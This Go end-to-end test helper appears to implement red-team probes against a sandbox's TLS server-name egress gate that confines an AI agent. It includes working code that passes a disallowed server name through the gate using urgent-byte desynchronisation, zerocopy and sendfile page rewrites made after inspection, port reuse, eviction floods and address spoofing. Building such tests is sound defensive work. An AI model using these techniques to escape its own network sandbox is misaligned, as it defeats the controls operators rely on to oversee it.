//go:build e2e

package main

import (
	"bufio"
	"bytes"
	"crypto/rand"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"strconv"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

const redteam2Usage = `       claude net rt2-reuse ADDR:PORT SNI1 SNI2 [any]     TLS with SNI1, reset it, then TLS with SNI2 from the same
                                                   local port to the same address (the five-tuple again); with
                                                   any, the second is tried even if the first failed
       claude net rt2-oob ADDR:PORT SNI_OK SNI_BAD        a ClientHello for SNI_BAD whose stream holds one urgent byte
                                                   (MSG_OOB): read with it, the records name SNI_OK
       claude net rt2-zerocopy ADDR:PORT SNI_OK SNI_BAD   a ClientHello sent with MSG_ZEROCOPY naming SNI_OK, its
                                                   pages rewritten to name SNI_BAD once netd has read them
       claude net rt2-sendfile ADDR:PORT SNI_OK SNI_BAD DIR   the same with sendfile(2) from a file in DIR, rewritten
                                                   with pwrite(2)
       claude net rt2-evict ADDR:PORT N [CONC]            N connections with data in the SYN, each refused
       claude net rt2-evict-allowed ADDR:PORT N CONC SNI  N connections sending a ClientHello for SNI, each reset
                                                   once the server answers it (each allowed, then closed)
       claude net rt2-spoof ADDR:PORT SRC                 TCP from SRC, an address not the namespace's, bound with
                                                   IP_FREEBIND (which needs no capability)
       claude net rt2-caps -                              which privileged socket options the agent may set
The TLS fast path's second red team (e2e/attack_redteam2_test.go). ADDR is resolved through the
sandbox's resolver.`

// redteam2Probe runs one of the second red team's probes; ok is false for another mode.
func redteam2Probe(args []string) (map[string]any, bool) {
	switch args[0] {
	case "rt2-reuse":
		return probeReuse(args[1:]), true
	case "rt2-oob":
		return probeOOB(args[1:]), true
	case "rt2-zerocopy":
		return probeZerocopy(args[1:]), true
	case "rt2-sendfile":
		return probeSendfile(args[1:]), true
	case "rt2-evict":
		return probeEvict(args[1:]), true
	case "rt2-evict-allowed":
		return probeEvictAllowed(args[1:]), true
	case "rt2-spoof":
		return probeSpoof(args[1:]), true
	case "rt2-caps":
		return probeCaps(), true
	}
	return nil, false
}

// reuseAddr sets SO_REUSEADDR, so that a socket may bind the local port of one just reset.
func reuseAddr(_, _ string, c syscall.RawConn) error {
	var serr error
	err := c.Control(func(fd uintptr) { serr = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_REUSEADDR, 1) })
	return errors.Join(err, serr)
}

// getOnce sends one keep-alive GET / over c and returns the body's last line.
func getOnce(c net.Conn, host string) (string, error) {
	c.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: %s\r\n\r\n", host); err != nil {
		return "", err
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	return lastLine(string(body)), err
}

// probeReuse: the first connection names an allowed server and is let through; the agent then
// resets it (no TIME_WAIT on its side, and the server's socket is gone) and connects again from
// the same local port to the same address, naming a server that is not allowed. The new flow is
// a new conntrack entry, held again: only a check of its own hello may let it through.
func probeReuse(args []string) map[string]any {
	if len(args) < 3 {
		return map[string]any{"ok": false, "error": "need ADDR:PORT SNI_OK SNI_BAD"}
	}
	ap, err := resolve(args[0])
	if err != nil {
		return failed(err)
	}
	d := &net.Dialer{Timeout: 5 * time.Second, Control: reuseAddr}
	c1, err := d.Dial("tcp4", ap.String())
	if err != nil {
		return failed(fmt.Errorf("first connection: %w", err))
	}
	local := c1.LocalAddr().(*net.TCPAddr)
	t1 := tls.Client(c1, &tls.Config{ServerName: args[1], InsecureSkipVerify: true})
	first, err := getOnce(t1, args[1])
	if err != nil && (len(args) < 4 || args[3] != "any") {
		c1.Close()
		return failed(fmt.Errorf("first connection (%s): %w", args[1], err))
	}
	if err != nil {
		first = "refused: " + err.Error()
	}
	c1.(*net.TCPConn).SetLinger(0)
	c1.Close() // a reset: the server forgets the connection at once
	time.Sleep(300 * time.Millisecond)
	d2 := &net.Dialer{Timeout: 5 * time.Second, Control: reuseAddr, LocalAddr: local}
	c2, err := d2.Dial("tcp4", ap.String())
	if err != nil {
		return map[string]any{"ok": false, "error": "second connection: " + err.Error(), "first": first}
	}
	defer c2.Close()
	same := c2.LocalAddr().String() == local.String()
	t2 := tls.Client(c2, &tls.Config{ServerName: args[2], InsecureSkipVerify: true})
	reply, err := getOnce(t2, args[2])
	if err != nil {
		return map[string]any{"ok": false, "error": "second connection: " + err.Error(), "first": first, "same_port": same}
	}
	return map[string]any{"ok": true, "reply": reply, "first": first, "same_port": same}
}

// firstWriteConn hands the first Write (the ClientHello record crypto/tls writes whole) to
// first, and the rest to the connection.
type firstWriteConn struct {
	*net.TCPConn
	first func(c *net.TCPConn, rec []byte) error
	done  bool
}

func (c *firstWriteConn) Write(p []byte) (int, error) {
	if c.done {
		return c.TCPConn.Write(p)
	}
	c.done = true
	if err := c.first(c.TCPConn, p); err != nil {
		return 0, err
	}
	return len(p), nil
}

// sendFlags sends b on c with flags, whole.
func sendFlags(c *net.TCPConn, b []byte, flags int) error {
	rc, err := c.SyscallConn()
	if err != nil {
		return err
	}
	var serr error
	err = rc.Write(func(fd uintptr) bool {
		for len(b) > 0 {
			n, err := unix.SendmsgN(int(fd), b, nil, nil, flags)
			if err == unix.EAGAIN {
				return false
			}
			if err != nil {
				serr = err
				return true
			}
			b = b[n:]
		}
		return true
	})
	return errors.Join(err, serr)
}

// The urgent byte
//
// Read from a socket without SO_OOBINLINE (every TLS server), the urgent byte of a stream is
// taken out of it; netd's gate reassembles the ClientHello from the packets, urgent byte and all.
// So the agent sends a stream G whose records, read whole, hold a ClientHello naming SNI_OK, and
// which, without its one urgent byte U, is exactly the records of crypto/tls's ClientHello H for
// SNI_BAD (so the handshake completes). U sits in the length of H's second record:
//
//	G = 16 03 01 00 04 | 01 L (3)          the hello's header alone in a record, for both readers
//	    16 03 01 U 00 M                    gate: a record of U<<8 = L bytes; server: M bytes
//	    h[0:M] | 16 03 01 (L-M) | h[M:L]   h is H's body; the server's third record
//
// where L, the body's length, is a multiple of 256 (padded with an ALPN protocol). The gate's
// body is then M, h[0:M], the third record's header and h[M:L-6]: shifted by one byte, its legacy
// session ID length falls on the last byte of H's random, and its cipher suites, compression,
// extensions and server name on H's session ID. crypto/tls draws both from Config.Rand, which
// writes them.

// oobLayout returns the 32 random and 32 session-ID bytes of H for a body of length l, so that
// the gate reads a ClientHello naming okName.
func oobLayout(l int, okName string) ([]byte, error) {
	n := len(okName)
	if n > 11 {
		return nil, fmt.Errorf("%q: the gate's fields fit H's session ID for names of up to 11 bytes", okName)
	}
	random := make([]byte, 32)
	rand.Read(random[:31])
	random[31] = 1 // the gate's legacy_session_id length: it takes H's own (0x20) as its session ID
	sid := make([]byte, 32)
	rand.Read(sid)
	w := sid[:0]
	w = append(w, 0x00, 0x02, 0x13, 0x01) // cipher_suites: TLS_AES_128_GCM_SHA256
	w = append(w, 0x01, 0x00)             // compression: null
	w = binary.BigEndian.AppendUint16(w, uint16(l-44))
	w = append(w, 0x00, 0x00) // server_name
	w = binary.BigEndian.AppendUint16(w, uint16(5+n))
	w = binary.BigEndian.AppendUint16(w, uint16(3+n))
	w = append(w, 0x00)
	w = binary.BigEndian.AppendUint16(w, uint16(n))
	w = append(w, okName...)
	w = append(w, 0x7a, 0x7a) // an unknown extension to the end of the gate's body
	w = binary.BigEndian.AppendUint16(w, uint16(l-(57+n)))
	if len(w) > 32 {
		return nil, errors.New("layout overflows the session ID")
	}
	return append(random, sid...), nil
}

// prefixReader yields prefix, then crypto/rand.
type prefixReader struct{ prefix []byte }

func (r *prefixReader) Read(p []byte) (int, error) {
	if len(r.prefix) > 0 {
		n := copy(p, r.prefix)
		r.prefix = r.prefix[n:]
		return n, nil
	}
	return rand.Read(p)
}

// helloRecord returns the record crypto/tls writes first with cfg.
func helloRecord(cfg *tls.Config) ([]byte, error) {
	c1, c2 := net.Pipe()
	defer c2.Close()
	go func() {
		tls.Client(c1, cfg).Handshake()
		c1.Close()
	}()
	c2.SetDeadline(time.Now().Add(5 * time.Second))
	hdr := make([]byte, 5)
	if _, err := io.ReadFull(c2, hdr); err != nil {
		return nil, err
	}
	body := make([]byte, int(hdr[3])<<8|int(hdr[4]))
	if _, err := io.ReadFull(c2, body); err != nil {
		return nil, err
	}
	return append(hdr, body...), nil
}

// oobConfig returns a crypto/tls configuration for badName whose ClientHello body is a multiple
// of 256 bytes long and carries the layout for okName.
func oobConfig(okName, badName string) (*tls.Config, int, error) {
	base := func(pads ...int) *tls.Config {
		protos := []string{"http/1.1"}
		for i, p := range pads {
			protos = append(protos, string(bytes.Repeat([]byte{byte('p' + i)}, p)))
		}
		return &tls.Config{ServerName: badName, InsecureSkipVerify: true, NextProtos: protos}
	}
	rec, err := helloRecord(base(1))
	if err != nil {
		return nil, 0, err
	}
	// One protocol of pad bytes adds pad+1; two of 128 and 127 add 257, the one case one cannot.
	pads := []int{1 + (256-(len(rec)-9)%256)%256}
	if pads[0] == 256 {
		pads = []int{128, 127}
	}
	cfg := base(pads...)
	if rec, err = helloRecord(cfg); err != nil {
		return nil, 0, err
	}
	l := len(rec) - 9
	if l%256 != 0 {
		return nil, 0, fmt.Errorf("padded body is %d bytes, not a multiple of 256", l)
	}
	layout, err := oobLayout(l, okName)
	if err != nil {
		return nil, 0, err
	}
	cfg.Rand = &prefixReader{prefix: layout}
	return cfg, l, nil
}

// oobStream turns the hello record rec (one record, body h of length l) into G; it returns the
// bytes up to and including U, and the rest.
func oobStream(rec []byte, l int) (head, tail []byte, err error) {
	hs := rec[5:]
	if rec[0] != 0x16 || len(hs) != 4+l || hs[0] != 1 || l%256 != 0 || l>>8 > 255 {
		return nil, nil, fmt.Errorf("unexpected hello record of %d bytes", len(rec))
	}
	h := hs[4:]
	const m = 200
	head = append([]byte{0x16, 0x03, 0x01, 0x00, 0x04}, hs[:4]...)
	head = append(head, 0x16, 0x03, 0x01, byte(l>>8)) // U: the last byte of the urgent send
	tail = append([]byte{0x00, m}, h[:m]...)
	tail = append(tail, 0x16, 0x03, 0x01, byte((l-m)>>8), byte(l-m))
	tail = append(tail, h[m:]...)
	return head, tail, nil
}

func probeOOB(args []string) map[string]any {
	if len(args) < 3 {
		return map[string]any{"ok": false, "error": "need ADDR:PORT SNI_OK SNI_BAD"}
	}
	ap, err := resolve(args[0])
	if err != nil {
		return failed(err)
	}
	cfg, l, err := oobConfig(args[1], args[2])
	if err != nil {
		return failed(err)
	}
	c, err := net.DialTimeout("tcp4", ap.String(), 5*time.Second)
	if err != nil {
		return failed(err)
	}
	defer c.Close()
	tc := c.(*net.TCPConn)
	tc.SetNoDelay(true)
	fw := &firstWriteConn{TCPConn: tc, first: func(c *net.TCPConn, rec []byte) error {
		head, tail, err := oobStream(rec, l)
		if err != nil {
			return err
		}
		if err := sendFlags(c, head, unix.MSG_OOB); err != nil {
			return fmt.Errorf("send MSG_OOB: %w", err)
		}
		_, err = c.Write(tail)
		return err
	}}
	t := tls.Client(fw, cfg)
	reply, err := getOnce(t, args[2])
	if err != nil {
		return map[string]any{"ok": false, "error": err.Error(), "hello_body": l}
	}
	return map[string]any{"ok": true, "reply": reply, "hello_body": l}
}

// probeZerocopy: the hello's first part leaves with MSG_ZEROCOPY, so the kernel sends it from the
// agent's own pages, at each transmission. It names SNI_OK when netd's supervisor copies it;
// 40 ms later, the pages name SNI_BAD, and the hello's last part follows: netd decides on the
// copy, and lets the packets through, whose pages the kernel reads only then, or sends again
// after the verdict (writeInTwo).
func probeZerocopy(args []string) map[string]any {
	if len(args) < 3 {
		return map[string]any{"ok": false, "error": "need ADDR:PORT SNI_OK SNI_BAD"}
	}
	if len(args[1]) != len(args[2]) {
		return map[string]any{"ok": false, "error": "the two names must be as long"}
	}
	ap, err := resolve(args[0])
	if err != nil {
		return failed(err)
	}
	page, err := unix.Mmap(-1, 0, 1<<16, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_ANON|unix.MAP_PRIVATE)
	if err != nil {
		return failed(fmt.Errorf("mmap: %w", err))
	}
	defer unix.Munmap(page)
	c, err := net.DialTimeout("tcp4", ap.String(), 5*time.Second)
	if err != nil {
		return failed(err)
	}
	defer c.Close()
	tc := c.(*net.TCPConn)
	tc.SetNoDelay(true)
	rc, _ := tc.SyscallConn()
	var serr error
	rc.Control(func(fd uintptr) { serr = unix.SetsockoptInt(int(fd), unix.SOL_SOCKET, unix.SO_ZEROCOPY, 1) })
	if serr != nil {
		return failed(fmt.Errorf("SO_ZEROCOPY: %w", serr))
	}
	fw := &firstWriteConn{TCPConn: tc, first: func(c *net.TCPConn, rec []byte) error {
		i := bytes.Index(rec, []byte(args[2]))
		if i < 0 || len(rec) > len(page) {
			return errors.New("no server name in the hello")
		}
		k := i + len(args[2]) + 1
		ok := bytes.Replace(rec, []byte(args[2]), []byte(args[1]), 1)
		copy(page, ok[:k])
		if err := sendFlags(c, page[:k], unix.MSG_ZEROCOPY); err != nil {
			return fmt.Errorf("send MSG_ZEROCOPY: %w", err)
		}
		time.Sleep(40 * time.Millisecond)
		copy(page, rec[:k])
		return writeInTwo(c, rec[k:])
	}}
	t := tls.Client(fw, &tls.Config{ServerName: args[2], InsecureSkipVerify: true})
	reply, err := getOnce(t, args[2])
	if err != nil {
		return map[string]any{"ok": false, "error": err.Error()}
	}
	return map[string]any{"ok": true, "reply": reply}
}

// writeInTwo writes the rest of a hello in two segments, 20 ms apart. The gate holds only the
// latest part of a hello that is not whole: the second drops the first part, the one sent from
// the pages, which the agent's TCP then sends again after the verdict, from the rewritten pages.
// MSG_EOR keeps the first byte a segment of its own: TCP would otherwise hold it back while the
// part before is in the host (autocorking, which the held packet is) and send it with the rest.
func writeInTwo(c *net.TCPConn, rest []byte) error {
	if err := sendFlags(c, rest[:1], unix.MSG_EOR); err != nil {
		return fmt.Errorf("send MSG_EOR: %w", err)
	}
	time.Sleep(20 * time.Millisecond)
	_, err := c.Write(rest[1:])
	return err
}

// probeSendfile is probeZerocopy with sendfile(2): the segment's pages are the file's page
// cache, which a pwrite(2) changes in place.
func probeSendfile(args []string) map[string]any {
	if len(args) < 4 {
		return map[string]any{"ok": false, "error": "need ADDR:PORT SNI_OK SNI_BAD DIR"}
	}
	if len(args[1]) != len(args[2]) {
		return map[string]any{"ok": false, "error": "the two names must be as long"}
	}
	ap, err := resolve(args[0])
	if err != nil {
		return failed(err)
	}
	f, err := os.CreateTemp(args[3], "hello-")
	if err != nil {
		return failed(err)
	}
	defer os.Remove(f.Name())
	defer f.Close()
	c, err := net.DialTimeout("tcp4", ap.String(), 5*time.Second)
	if err != nil {
		return failed(err)
	}
	defer c.Close()
	tc := c.(*net.TCPConn)
	tc.SetNoDelay(true)
	fw := &firstWriteConn{TCPConn: tc, first: func(c *net.TCPConn, rec []byte) error {
		i := bytes.Index(rec, []byte(args[2]))
		if i < 0 {
			return errors.New("no server name in the hello")
		}
		k := i + len(args[2]) + 1
		ok := bytes.Replace(rec, []byte(args[2]), []byte(args[1]), 1)
		if _, err := f.WriteAt(ok[:k], 0); err != nil {
			return err
		}
		rc, err := c.SyscallConn()
		if err != nil {
			return err
		}
		var n int
		var serr error
		rc.Write(func(fd uintptr) bool {
			var off int64
			n, serr = unix.Sendfile(int(fd), int(f.Fd()), &off, k)
			return true
		})
		if serr != nil || n != k {
			return fmt.Errorf("sendfile: %d of %d bytes: %v", n, k, serr)
		}
		time.Sleep(40 * time.Millisecond)
		if _, err := f.WriteAt(rec[:k], 0); err != nil {
			return err
		}
		return writeInTwo(c, rec[k:])
	}}
	t := tls.Client(fw, &tls.Config{ServerName: args[2], InsecureSkipVerify: true})
	reply, err := getOnce(t, args[2])
	if err != nil {
		return map[string]any{"ok": false, "error": err.Error()}
	}
	return map[string]any{"ok": true, "reply": reply}
}

// probeEvict makes N flows the gate refuses at their first packet (data in the SYN), each from
// its own local port (20000 on, bound explicitly: the kernel's choice would reuse a few), so each
// is a decision the gate remembers.
func probeEvict(args []string) map[string]any {
	if len(args) < 2 {
		return map[string]any{"ok": false, "error": "need ADDR:PORT N [CONC]"}
	}
	n, err1 := strconv.Atoi(args[1])
	conc := 64
	if len(args) > 2 {
		conc, _ = strconv.Atoi(args[2])
	}
	ap, err := resolve(args[0])
	if err = errors.Join(err, err1); err != nil {
		return failed(err)
	}
	sa := &unix.SockaddrInet4{Port: int(ap.Port()), Addr: ap.Addr().As4()}
	var refused, other atomic.Int64
	var firstErr atomic.Value
	ports := make(chan int)
	var wg sync.WaitGroup
	start := time.Now()
	for range conc {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for port := range ports {
				fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
				if err == nil {
					unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_REUSEADDR, 1)
					unix.SetsockoptInt(fd, unix.IPPROTO_TCP, unix.TCP_FASTOPEN_NO_COOKIE, 1)
					unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &unix.Timeval{Sec: 3})
					if err = unix.Bind(fd, &unix.SockaddrInet4{Port: port}); err == nil {
						err = unix.Sendto(fd, []byte("evict"), unix.MSG_FASTOPEN, sa)
					}
				}
				switch {
				case err == unix.ECONNREFUSED || err == unix.ECONNRESET:
					refused.Add(1)
				default:
					other.Add(1)
					firstErr.CompareAndSwap(nil, fmt.Sprintf("port %d: %v", port, err))
				}
				if fd >= 0 {
					unix.SetsockoptLinger(fd, unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1, Linger: 0})
					unix.Close(fd)
				}
			}
		}()
	}
	for i := range n {
		ports <- 20000 + i
	}
	close(ports)
	wg.Wait()
	res := map[string]any{"ok": refused.Load() == int64(n), "reply": fmt.Sprintf("refused %d other %d in %.1fs", refused.Load(), other.Load(), time.Since(start).Seconds())}
	if e := firstErr.Load(); e != nil {
		res["error"] = e
	}
	return res
}

// probeEvictAllowed makes N flows the gate allows: each sends a ClientHello for SNI, waits for
// the server's first byte (the gate let the hello through) and resets the connection. Each is an
// allowed flow the gate remembers; conntrack keeps its entry a few seconds after the reset.
func probeEvictAllowed(args []string) map[string]any {
	if len(args) < 4 {
		return map[string]any{"ok": false, "error": "need ADDR:PORT N CONC SNI"}
	}
	n, err1 := strconv.Atoi(args[1])
	conc, err2 := strconv.Atoi(args[2])
	hello, err3 := helloFor(args[3])
	ap, err := resolve(args[0])
	if err = errors.Join(err, err1, err2, err3); err != nil {
		return failed(err)
	}
	var answered, other atomic.Int64
	var firstErr atomic.Value
	next := make(chan struct{})
	var wg sync.WaitGroup
	start := time.Now()
	for range conc {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for range next {
				err := helloAnswered(ap, hello)
				if err == nil {
					answered.Add(1)
					continue
				}
				other.Add(1)
				firstErr.CompareAndSwap(nil, err.Error())
			}
		}()
	}
	for range n {
		next <- struct{}{}
	}
	close(next)
	wg.Wait()
	res := map[string]any{"ok": answered.Load() == int64(n), "reply": fmt.Sprintf("answered %d other %d in %.1fs", answered.Load(), other.Load(), time.Since(start).Seconds())}
	if e := firstErr.Load(); e != nil {
		res["error"] = e
	}
	return res
}

// helloAnswered connects to ap, sends hello, reads the server's first byte and resets the
// connection.
func helloAnswered(ap netip.AddrPort, hello []byte) error {
	c, err := net.DialTimeout("tcp4", ap.String(), 5*time.Second)
	if err != nil {
		return err
	}
	tc := c.(*net.TCPConn)
	defer tc.Close()
	tc.SetLinger(0)
	tc.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := tc.Write(hello); err != nil {
		return err
	}
	_, err = tc.Read(make([]byte, 1))
	return err
}

// probeSpoof connects from an address that is not the namespace's: IP_FREEBIND lets an
// unprivileged socket bind it, and only IP_TRANSPARENT (CAP_NET_ADMIN) would let it send from it.
func probeSpoof(args []string) map[string]any {
	if len(args) < 2 {
		return map[string]any{"ok": false, "error": "need ADDR:PORT SRC"}
	}
	ap, err := resolve(args[0])
	if err != nil {
		return failed(err)
	}
	src, err := netip.ParseAddr(args[1])
	if err != nil || !src.Is4() {
		return failed(fmt.Errorf("SRC %q: not an IPv4 address", args[1]))
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
	if err != nil {
		return failed(err)
	}
	defer unix.Close(fd)
	if err := unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_FREEBIND, 1); err != nil {
		return failed(fmt.Errorf("IP_FREEBIND: %w", err))
	}
	if err := unix.Bind(fd, &unix.SockaddrInet4{Addr: src.As4()}); err != nil {
		return failed(fmt.Errorf("bind %s: %w", src, err))
	}
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &unix.Timeval{Sec: 3})
	if err := unix.Connect(fd, &unix.SockaddrInet4{Port: int(ap.Port()), Addr: ap.Addr().As4()}); err != nil {
		return failed(fmt.Errorf("bound %s, connect: %w", src, err))
	}
	return map[string]any{"ok": true, "reply": "connected from " + src.String()}
}

// probeCaps tries the socket options that would let the agent write its own packets' marks,
// sequence state or source: each needs a capability the agent has not. ok: all refused.
func probeCaps() map[string]any {
	type opt struct {
		name         string
		level, which int
	}
	var set, refused []string
	for _, o := range []opt{
		{"TCP_REPAIR", unix.IPPROTO_TCP, unix.TCP_REPAIR},
		{"SO_MARK", unix.SOL_SOCKET, unix.SO_MARK},
		{"IP_TRANSPARENT", unix.IPPROTO_IP, unix.IP_TRANSPARENT},
		{"IP_FREEBIND", unix.IPPROTO_IP, unix.IP_FREEBIND},
		{"SO_ZEROCOPY", unix.SOL_SOCKET, unix.SO_ZEROCOPY},
	} {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM, 0)
		if err != nil {
			return failed(err)
		}
		v := 1
		if o.which == unix.SO_MARK {
			v = 0xa11
		}
		if err := unix.SetsockoptInt(fd, o.level, o.which, v); err != nil {
			refused = append(refused, o.name+": "+err.Error())
		} else {
			set = append(set, o.name)
		}
		unix.Close(fd)
	}
	privileged := 0
	for _, s := range set {
		if s == "TCP_REPAIR" || s == "SO_MARK" || s == "IP_TRANSPARENT" {
			privileged++
		}
	}
	return map[string]any{"ok": privileged == 0, "reply": fmt.Sprintf("set %v refused %v", set, refused)}
}
